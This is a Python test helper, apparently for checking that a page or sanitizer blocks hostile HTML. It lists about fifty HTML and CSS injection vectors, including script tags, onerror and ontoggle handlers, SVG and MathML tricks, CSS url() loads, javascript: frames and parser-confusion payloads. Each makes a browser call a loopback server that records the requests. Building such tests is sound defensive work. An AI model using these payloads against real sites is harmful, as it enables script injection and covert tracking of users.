"""HTML with which a hostile message may attack a browser, and a server that counts requests."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

# In a page without protection each of these calls the server, by itself and under its own name.
# `URL` stands for an address of the server, `RUN` for a script that calls it and notifies the page.
CALLING = {
    "script": "<script src=URL></script>",
    "inline script": "<script>RUN</script>",
    "module": "<script type=module>import 'URL'</script>",
    "picture": "<img src=URL>",
    "picture by another name": "<image src=URL>",
    "picture set": "<img srcset='URL 1x'>",
    "picture source": "<picture><source srcset=URL><img></picture>",
    "handler": '<img src=x: onerror="RUN">',
    "handler of details": '<details open ontoggle="RUN">x</details>',
    "handler of svg": '<svg onload="RUN"></svg>',
    "handler of animation": '<svg><animate onbegin="RUN" attributeName=x dur=1s></svg>',
    "handler of focus": '<input autofocus onfocus="RUN">',
    "svg picture": "<svg width=9 height=9><image width=9 height=9 href=URL /></svg>",
    "svg script": "<svg><script href=URL></script></svg>",
    "svg style": "<svg><style>@import 'URL';</style></svg>",
    "foreign object": "<svg><foreignObject><img src=URL></foreignObject></svg>",
    "math": "<math><mtext><img src=URL></mtext></math>",
    "math annotation": (
        "<math><annotation-xml encoding=text/html><img src=URL></annotation-xml></math>"
    ),
    "style import": "<style>@import 'URL';</style>",
    "style url": "<style>body { background: url(URL) }</style>",
    "style font": (
        "<style>@font-face { font-family: a; src: url(URL) }</style><p style='font-family: a'>x</p>"
    ),
    "style before": "<style>p::before { content: url(URL) }</style><p>x</p>",
    "style set": "<p style=\"background: image-set('URL' 1x)\">x</p>",
    "style attribute": "<p style='background: url(URL)'>x</p>",
    "style escaped": r"<p style='background: \75rl(URL)'>x</p>",
    "style list": "<ul style='list-style: url(URL)'><li>x</ul>",
    "style border": "<p style='border: 1px solid; border-image: url(URL) 1'>x</p>",
    "style sheet": "<link rel=stylesheet href=URL>",
    "preload": "<link rel=preload as=image href=URL>",
    "module preload": "<link rel=modulepreload href=URL>",
    "background of a table": "<table background=URL><tr><td>x</table>",
    "background of a cell": "<table><tr><td background=URL>x</table>",
    "frame": "<iframe src=URL></iframe>",
    "frame inside": "<iframe srcdoc='<img src=URL>'></iframe>",
    "data frame": '<iframe src="data:text/html,<img src=URL>"></iframe>',
    "script frame": "<iframe src=\"javascript:'<img src=URL>'\"></iframe>",
    "object": "<object data=URL></object>",
    "embed": "<embed src=URL>",
    "video": "<video src=URL autoplay></video>",
    "poster": "<video poster=URL></video>",
    "audio": "<audio src=URL autoplay></audio>",
    "picture button": "<form><input type=image src=URL></form>",
    "form": "<form action=URL id=f></form><script>f.submit()</script>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=URL'>",
    "base": "<base href=URL><img src=base>",
    "comment": "<!--><img src=URL>-->",
    "markup in a title": '<p title=""><img src=URL>">x</p>',
    "template": "<template shadowrootmode=open><img src=URL></template>",
    "noscript": "<noscript><p title='</noscript><img src=URL>'></noscript>",
}
# Collects what scripts in frames report to the page.
COLLECT_REPORTS = (
    "window.reports = []; addEventListener('message', event => reports.push(event.data))"
)


def trick(name: str, host: str) -> str:
    """Return the trick's HTML, which calls this host."""
    url = f"http://{host}/{name.replace(' ', '-')}"
    run = f"parent.postMessage('{name}', '*'); fetch('{url}')"
    return CALLING[name].replace("RUN", run).replace("URL", url)


def every_trick(host: str) -> str:
    """Return all of them in a row. Tricks that swallow the following HTML come last."""
    return "\n".join(trick(name, host) for name in CALLING)


class Server(ThreadingHTTPServer):
    """Serves its pages, and records every other request.

    Pages must come from loopback like the server they call: browsers block requests from other
    networks to loopback.
    """

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.pages: dict[str, tuple[str, dict[str, str]]] = {}  # path → HTML, headers
        self.connections = 0
        self.paths: list[str] = []
        self.referrers: dict[str, str | None] = {}

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.server_port}"

    @property
    def calls(self) -> list[str]:
        """The requested paths. A connection without a request is a call too."""
        return self.paths or ["a connection"] * self.connections

    def process_request(self, request: Any, client_address: Any) -> None:
        self.connections += 1
        super().process_request(request, client_address)


class _Handler(BaseHTTPRequestHandler):
    server: Server

    def do_GET(self) -> None:  # the name http.server calls
        body, headers = self.server.pages.get(self.path, ("", {}))
        if not body:
            path = self.path.partition("?")[0]
            self.server.referrers[path] = self.headers["Referer"]
            self.server.paths.append(path)
        data = body.encode()
        self.send_response(200)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Type", "text/html; charset=utf-8" if body else "image/png")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Cache-Control", "no-store")
        self.send_header("Content-Length", str(len(data)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(data)

    do_POST = do_OPTIONS = do_HEAD = do_GET  # noqa: N815  # likewise

    def log_message(self, *_: Any) -> None:
        """Stay quiet."""


@contextmanager
def serving() -> Iterator[Server]:
    """Run a server on loopback."""
    with Server() as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join(10)
